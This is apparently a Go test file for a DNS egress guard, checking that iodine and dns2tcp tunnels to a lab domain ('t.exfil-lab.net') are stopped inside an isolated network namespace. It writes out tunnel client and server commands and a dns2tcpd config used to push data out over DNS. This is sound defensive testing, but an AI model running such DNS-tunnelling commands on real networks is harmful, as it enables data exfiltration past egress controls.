package dns_test

import (
	"bytes"
	"context"
	"fmt"
	"net"
	"net/netip"
	"os"
	"os/exec"
	"path/filepath"
	"strings"
	"syscall"
	"testing"
	"time"

	"outvet/call"
	"outvet/internal/forward"
	"outvet/internal/listener/dns"
)

// inside says that this process was started in a network of its own, in which
// only loopback is, so that port 53 is free and nothing else is reached.
const inside = "OUTVET_TEST_INSIDE"

// need installs programs that are missing, and skips the test, saying why, if
// that cannot be.
func need(t *testing.T, packages map[string]string) {
	t.Helper()
	if testing.Short() {
		t.Skip("-short: no programs of others")
	}
	for program, pkg := range packages {
		if _, err := exec.LookPath(program); err == nil {
			continue
		}
		ctx, cancel := context.WithTimeout(t.Context(), 3*time.Minute)
		out, err := exec.CommandContext(ctx, "apt-get", "install", "-y", "--no-install-recommends", pkg).CombinedOutput()
		cancel()
		if _, missing := exec.LookPath(program); missing != nil {
			t.Skipf("%s is not here, and cannot be installed: %v %.200s", program, err, out)
		}
	}
}

// within runs the calling test again in a network of its own, and reports whether
// this is that run.
func within(t *testing.T) bool {
	t.Helper()
	if os.Getenv(inside) != "" {
		if out, err := exec.Command("ip", "link", "set", "lo", "up").CombinedOutput(); err != nil {
			t.Fatalf("%v %s", err, out)
		}
		return true
	}
	if os.Getuid() != 0 {
		t.Skip("only root can have a network of his own here")
	}
	ctx, cancel := context.WithTimeout(t.Context(), 2*time.Minute)
	defer cancel()
	cmd := exec.CommandContext(ctx, os.Args[0], "-test.run=^"+t.Name()+"$", "-test.v", "-test.count=1")
	cmd.Env = append(os.Environ(), inside+"=1")
	cmd.SysProcAttr = &syscall.SysProcAttr{Cloneflags: syscall.CLONE_NEWNET | syscall.CLONE_NEWNS, Pdeathsig: syscall.SIGKILL}
	out, err := cmd.CombinedOutput()
	t.Logf("%s", out)
	if strings.Contains(string(out), "--- SKIP") {
		t.Skip("skipped in there")
	}
	if err != nil {
		t.Error(err)
	}
	return false
}

// start runs a program until the test ends. Its output is what text returns.
func start(t *testing.T, name string, args ...string) (text func() string) {
	t.Helper()
	file, err := os.Create(filepath.Join(t.TempDir(), "out"))
	if err != nil {
		t.Fatal(err)
	}
	cmd := exec.Command(name, args...)
	cmd.Stdout, cmd.Stderr = file, file
	cmd.SysProcAttr = &syscall.SysProcAttr{Pdeathsig: syscall.SIGKILL}
	if err := cmd.Start(); err != nil {
		t.Fatal(err)
	}
	t.Cleanup(func() { cmd.Process.Kill(); cmd.Wait(); file.Close() })
	return func() string { b, _ := os.ReadFile(file.Name()); return string(b) }
}

func until(most time.Duration, f func() bool) bool {
	for end := time.Now().Add(most); time.Now().Before(end); time.Sleep(50 * time.Millisecond) {
		if f() {
			return true
		}
	}
	return false
}

// resolverAt serves on port 53 of loopback and asks server.
func resolverAt(t *testing.T, text, server string) (r *rig, end func()) {
	t.Helper()
	r = guarded(t, text, func(s *dns.Server) {
		s.Rate, s.Upstream = 1<<20, forward.New(forward.Options{NameServers: []netip.AddrPort{netip.MustParseAddrPort(server)}})
	})
	pc, err := net.ListenPacket("udp", "127.0.0.1:53")
	if err != nil {
		t.Fatal(err)
	}
	done := make(chan struct{})
	go func() { r.Serve(pc); close(done) }()
	return r, func() { r.end(t); <-done }
}

// bytes returns how many bytes of queries left, names that came again included.
func (r *rig) bytes() (n int64) {
	for _, c := range r.log.of(call.Closed) {
		n += c.Outcome.Sent
	}
	return n
}

// left returns how many names left, and a bound of what they carried.
func (r *rig) left() (names int, carried float64) {
	sent := map[call.ID]bool{}
	for _, c := range r.log.of(call.Closed) {
		sent[c.ID] = c.Outcome.Sent > 0
	}
	seen := map[string]bool{}
	for _, d := range r.log.of(call.Decided) {
		if sent[d.ID] && !seen[d.Host] {
			seen[d.Host] = true
			names++
			carried += float64(len(strings.ReplaceAll(strings.TrimSuffix(d.Host, ".exfil-lab.net"), ".", ""))) * 5 / 8
		}
	}
	return names, carried
}

const tunnelZone = "t.exfil-lab.net"

func TestIodineIsStopped(t *testing.T) {
	need(t, map[string]string{"iodine": "iodine", "ip": "iproute2"})
	if _, err := os.Stat("/dev/net/tun"); err != nil {
		t.Skip("iodine wants /dev/net/tun")
	}
	if !within(t) {
		return
	}
	server := start(t, "iodined", "-f", "-c", "-P", "pw", "-l", "127.0.0.2", "10.99.0.1/24", tunnelZone)
	until(5*time.Second, func() bool { return strings.Contains(server(), "Listening to dns") })
	for _, tc := range []struct{ kind, policy string }{
		{"TXT", ""}, {"TXT", leaky}, {"CNAME", leaky}, {"MX", leaky}, {"SRV", leaky}, {"A", leaky}, {"NULL", leaky}, {"PRIVATE", leaky},
	} {
		t.Run(fmt.Sprintf("%s guarded %v", tc.kind, tc.policy != ""), func(t *testing.T) {
			text, open := tc.policy, tc.policy == ""
			if open { // that it would work shows that the test tests something
				text = "version: 1\ndefault: allow\nrules:\n  - {name: everything, protocol: dns, verdict: allow}\n"
			}
			r, end := resolverAt(t, text, "127.0.0.2:53")
			client := start(t, "iodine", "-f", "-r", "-P", "pw", "-T", tc.kind, "-O", "Base32", "127.0.0.1", tunnelZone)
			most := 3 * time.Second
			if open {
				most = 30 * time.Second
			}
			through := until(most, func() bool {
				return strings.Contains(client(), "Connection setup complete") && (!open || r.bytes() > 3000)
			})
			end()
			names, carried := r.left()
			t.Logf("%s: %d names, at most %.1f B left, in %d B of queries; quarantined: %v", tc.kind, names, carried, r.bytes(), r.Gate.Sessions.Stopped(&call.Caller{Session: session1}) != "")
			if open && !through {
				t.Skipf("iodine does not get through where it may: %s", client())
			}
			if !open && (through || carried > 20) {
				t.Errorf("%d names left, %.1f B\n%s", names, carried, client())
			}
		})
	}
}

func TestDNS2TCPIsStopped(t *testing.T) {
	need(t, map[string]string{"dns2tcpc": "dns2tcp", "dns2tcpd": "dns2tcp", "ip": "iproute2"})
	if !within(t) {
		return
	}
	l, err := net.Listen("tcp", "127.0.0.1:9999")
	if err != nil {
		t.Fatal(err)
	}
	defer l.Close()
	got := make(chan []byte, 16)
	go func() {
		for {
			c, err := l.Accept()
			if err != nil {
				return
			}
			go func() {
				b := make([]byte, 4096)
				n, _ := c.Read(b)
				got <- b[:n]
				c.Close()
			}()
		}
	}()
	conf := filepath.Join(t.TempDir(), "dns2tcpd.conf")
	if err := os.WriteFile(conf, []byte("listen = 127.0.0.2\nport = 53\nuser = nobody\nchroot = /tmp\ndomain = "+tunnelZone+"\nkey = k\nresources = drop:127.0.0.1:9999\n"), 0o600); err != nil {
		t.Fatal(err)
	}
	start(t, "dns2tcpd", "-F", "-f", conf)
	time.Sleep(500 * time.Millisecond)
	r, end := resolverAt(t, leaky, "127.0.0.2:53")
	defer end()
	data := bytes.Repeat([]byte("what must not leave "), 50)
	send := func(port, server string) bool {
		start(t, "dns2tcpc", "-z", tunnelZone, "-k", "k", "-r", "drop", "-l", port, "-T", "TXT", "-t", "1", server)
		return until(6*time.Second, func() bool {
			c, err := net.DialTimeout("tcp", "127.0.0.1:"+port, time.Second)
			if err != nil {
				return false
			}
			c.Write(data)
			defer c.Close()
			select {
			case b := <-got:
				return len(b) > 0
			case <-time.After(3 * time.Second):
				return false
			}
		})
	}
	if !send("7701", "127.0.0.2") {
		t.Skip("dns2tcp does not work here by itself")
	}
	if send("7702", "127.0.0.1") {
		t.Error("data arrived")
	}
	names, carried := r.left()
	t.Logf("%d names, at most %.1f B left, %d were asked", names, carried, len(r.log.of(call.Decided)))
	if carried > 20 || len(r.log.of(call.Decided)) == 0 {
		t.Errorf("%d names left, %.1f B", names, carried)
	}
}

func TestDigShowsWhyAQueryWasRefused(t *testing.T) {
	need(t, map[string]string{"dig": "bind9-dnsutils"})
	r := newRig(t, blockAll)
	_, port, _ := net.SplitHostPort(r.addr)
	out, err := exec.Command("dig", "@127.0.0.1", "-p", port, "+tries=1", "+time=10", "TXT", "denied.example.com").CombinedOutput()
	if err != nil {
		t.Fatalf("%v %s", err, out)
	}
	for _, want := range []string{"status: REFUSED", "EDE: 15 (Blocked)", "not allowed in this session"} {
		if !strings.Contains(string(out), want) {
			t.Errorf("dig does not say %q:\n%s", want, out)
		}
	}
}
